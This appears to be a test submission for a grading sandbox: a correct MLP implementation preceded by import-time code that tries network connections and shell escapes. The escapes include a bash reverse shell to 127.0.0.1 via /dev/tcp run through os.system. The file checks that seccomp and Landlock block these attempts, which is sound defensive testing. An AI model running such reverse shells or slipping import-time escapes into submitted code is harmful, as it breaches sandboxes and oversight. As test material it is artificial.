"""Attack: at import, try to phone home: a TCP connection to 127.0.0.1:47101 (the tests listen there), IPv6, UDP,
a UNIX socket to the system bus, and a shell started three ways (os.system, subprocess, fork + exec) that would
run "sh -i" against that port. Prints LEAK for anything that worked. The implementation is correct.

Expected: full credit and no LEAK: socket() and execve() are refused by the seccomp filter; as root the child
also has a network namespace without interfaces; Landlock (ABI >= 4) refuses TCP connect and bind as well.
"""

import os
import socket
import subprocess

import torch

PORT = 47101
SHELL = f"sh -i >& /dev/tcp/127.0.0.1/{PORT} 0>&1"


def _attempt(what, fn):
    try:
        fn()
        print("LEAK", what)
    except Exception as e:  # noqa: BLE001
        print("blocked", what, "-", type(e).__name__, e)


def _tcp():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(1)
    s.connect(("127.0.0.1", PORT))
    s.sendall(b"hello from a submission")


def _tcp6():
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    s.settimeout(1)
    s.connect(("::1", PORT))


def _udp():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hello", ("127.0.0.1", PORT))


def _unix():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect("/run/dbus/system_bus_socket")


def _system():
    if os.system(f"bash -c '{SHELL}'") != 0:
        raise OSError("os.system failed")


def _popen():
    subprocess.run(["/bin/sh", "-c", "echo started"], check=True, timeout=2, capture_output=True)


def _exec():
    pid = os.fork()
    if pid == 0:
        try:
            os.execv("/bin/sh", ["sh", "-c", "exit 0"])
        finally:
            os._exit(99)
    if os.waitpid(pid, 0)[1] != 0:
        raise OSError("exec failed in the child")


for what, fn in [("tcp connect", _tcp), ("tcp6 connect", _tcp6), ("udp send", _udp), ("unix socket", _unix),
                 ("os.system", _system), ("subprocess", _popen), ("fork + exec", _exec)]:
    _attempt(what, fn)


class MLP:
    def __init__(self, linear_1_in_features, linear_1_out_features, f_function,
                 linear_2_in_features, linear_2_out_features, g_function):
        self.f_function = f_function
        self.g_function = g_function
        self.parameters = dict(
            W1=torch.randn(linear_1_out_features, linear_1_in_features),
            b1=torch.randn(linear_1_out_features),
            W2=torch.randn(linear_2_out_features, linear_2_in_features),
            b2=torch.randn(linear_2_out_features),
        )
        self.grads = {"dJd" + k: torch.zeros_like(v) for k, v in self.parameters.items()}
        self.cache = dict()

    @staticmethod
    def _act(name, z):
        return {"relu": torch.relu, "sigmoid": torch.sigmoid, "identity": lambda u: u}[name](z)

    @staticmethod
    def _dact(name, z):
        if name == "relu":
            return (z > 0).to(z.dtype)
        if name == "sigmoid":
            s = torch.sigmoid(z)
            return s * (1 - s)
        return torch.ones_like(z)

    def forward(self, x):
        p = self.parameters
        z1 = x @ p["W1"].T + p["b1"]
        z2 = self._act(self.f_function, z1)
        z3 = z2 @ p["W2"].T + p["b2"]
        self.cache = dict(x=x, z1=z1, z2=z2, z3=z3)
        return self._act(self.g_function, z3)

    def backward(self, dJdy_hat):
        c = self.cache
        dJdz3 = dJdy_hat * self._dact(self.g_function, c["z3"])
        dJdz1 = (dJdz3 @ self.parameters["W2"]) * self._dact(self.f_function, c["z1"])
        self.grads["dJdW2"] = dJdz3.T @ c["z2"]
        self.grads["dJdb2"] = dJdz3.sum(0)
        self.grads["dJdW1"] = dJdz1.T @ c["x"]
        self.grads["dJdb1"] = dJdz1.sum(0)

    def clear_grad_and_cache(self):
        for k in self.grads:
            self.grads[k] = torch.zeros_like(self.grads[k])
        self.cache = dict()


def mse_loss(y, y_hat):
    diff = y_hat - y
    return 0.5 * (diff ** 2).mean(), diff / diff.numel()


def bce_loss(y, y_hat):
    J = -(y * torch.log(y_hat) + (1 - y) * torch.log(1 - y_hat)).mean()
    return J, (y_hat - y) / (y_hat * (1 - y_hat)) / y.numel()
